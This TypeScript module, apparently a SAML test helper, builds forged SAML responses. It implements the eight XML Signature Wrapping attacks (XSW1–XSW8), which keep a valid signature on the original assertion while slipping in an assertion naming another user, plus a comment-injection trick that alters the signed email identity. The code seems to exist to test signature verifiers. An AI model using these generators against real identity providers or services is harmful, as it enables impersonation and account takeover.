import { makeId } from './messages.ts';

/** The parts of a signed response that an attacker rearranges. */
type Parts = { response: string; assertion: string; bare: string; signature: string; evil: string };

const signatureShape = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;

function partsOf(response: string, victim: { from: string; to: string }): Parts {
  const assertion = /<saml:Assertion\b[\s\S]*<\/saml:Assertion>/.exec(response)?.[0] ?? '';
  const signature = signatureShape.exec(assertion)?.[0] ?? '';
  const bare = assertion.replace(signature, '');
  const evil = bare.replaceAll(victim.from, victim.to).replace(/ID="[^"]+"/, `ID="${makeId()}"`);
  return { response, assertion, bare, signature, evil };
}

const before = (element: string, end: string, inside: string) => element.replace(end, `${inside}${end}`);
const assertionEnd = '</saml:Assertion>';
const signatureEnd = '</ds:Signature>';
const responseEnd = '</samlp:Response>';

/** The first two wrap a signed response, so that its signature still covers the original one inside. */
function wrapResponse({ response, evil, assertion }: Parts, where: 'in' | 'before'): string {
  const signature = signatureShape.exec(response.replace(assertion, ''))?.[0] ?? '';
  const original = response.replace(signature, '');
  const outer = response
    .replace(assertion, evil)
    .replace(/<samlp:Response([^>]*) ID="[^"]+"/, `<samlp:Response$1 ID="${makeId()}"`);
  if (where === 'in') return outer.replace(signature, before(signature, signatureEnd, original));
  return outer.replace(signature, `${original}${signature}`);
}

/**
 * The eight signature wrappings ("On Breaking SAML: Be Whoever You Want to Be", 2012): the signature stays valid for
 * the original element, while the reader is tricked into using another one.
 */
export const wrappings: Readonly<Record<string, (parts: Parts) => string>> = {
  XSW1: (parts) => wrapResponse(parts, 'in'),
  XSW2: (parts) => wrapResponse(parts, 'before'),
  XSW3: ({ response, assertion, evil }) => response.replace(assertion, `${evil}${assertion}`),
  XSW4: ({ response, assertion, evil }) => response.replace(assertion, before(evil, assertionEnd, assertion)),
  XSW5: ({ response, assertion, bare, signature, evil }) =>
    before(
      response.replace(assertion, evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)),
      responseEnd,
      bare,
    ),
  XSW6: ({ response, assertion, bare, signature, evil }) =>
    response.replace(
      assertion,
      evil.replace('</saml:Issuer>', `</saml:Issuer>${before(signature, signatureEnd, bare)}`),
    ),
  XSW7: ({ response, assertion, evil }) =>
    response.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  XSW8: ({ response, assertion, bare, signature, evil }) =>
    response.replace(
      assertion,
      evil.replace(
        '</saml:Issuer>',
        `</saml:Issuer>${before(signature, signatureEnd, `<ds:Object>${bare}</ds:Object>`)}`,
      ),
    ),
};

/** A signed response, wrapped around an assertion about another person. */
export function wrapped(name: string, response: string, victim: { from: string; to: string }): string {
  const wrap = wrappings[name];
  if (wrap === undefined) throw new Error(`There is no wrapping called ${name}.`);
  return wrap(partsOf(response, victim));
}

/** `ada@example.com.evil` becomes `ada@example.com<!---->.evil`: canonical XML drops comments, so the signature holds. */
export function withComment(response: string, at: string): string {
  return response.replace(at, `${at}<!-- -->`);
}

/** As providers encrypt: its methods name algorithms that are none of a signature, SHA-1 among them. */
export const encryptedAssertion = `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><dsig:KeyInfo xmlns:dsig="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"><dsig:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/></xenc:EncryptionMethod><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></dsig:KeyInfo><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>`;
